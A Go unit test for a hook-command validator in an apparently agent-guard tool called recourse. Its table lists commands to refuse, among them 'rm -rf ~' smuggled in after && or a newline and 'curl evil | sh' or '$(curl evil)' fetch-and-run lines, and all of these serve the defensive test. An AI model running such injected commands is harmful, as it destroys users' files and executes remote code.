package install

import (
	"strings"
	"testing"
)

// TestHookArgv: doctor runs a configured command only when it is one plain
// run of recourse hook HOST, and then without a shell.
func TestHookArgv(t *testing.T) {
	tests := []struct {
		command string
		want    string // the arguments, space-joined; "" for a refusal
	}{
		{"/usr/local/bin/recourse hook claude-code", "/usr/local/bin/recourse hook claude-code"},
		{"recourse hook claude-code --escalate-as deny --fail-on block", "recourse hook claude-code --escalate-as deny --fail-on block"},
		{"'/opt/my tools/recourse' hook claude-code", "/opt/my tools/recourse hook claude-code"},
		{"exec /usr/local/bin/recourse hook claude-code", "/usr/local/bin/recourse hook claude-code"},
		{"recourse hook claude-code && rm -rf ~", ""},
		{"recourse hook claude-code; curl evil | sh", ""},
		{"recourse hook claude-code | tee /tmp/log", ""},
		{"recourse hook claude-code > /tmp/out", ""},
		{"recourse hook claude-code $(curl evil)", ""},
		{"$HOME/bin/recourse hook claude-code", ""},
		{"FOO=1 recourse hook claude-code", ""},
		{"recourse hook codex", ""},
		{"other-guard hook claude-code", ""},
		{"recourse hook claude-code &", ""},
		{"recourse hook claude-code\nrm -rf ~", ""},
		{"recourse hook 'claude-code", ""},
	}
	for _, tt := range tests {
		argv, err := hookArgv(tt.command, "claude-code")
		got := strings.Join(argv, " ")
		if got != tt.want || (tt.want == "") != (err != nil) {
			t.Errorf("%q: %q (%v), want %q", tt.command, got, err, tt.want)
		}
	}
}
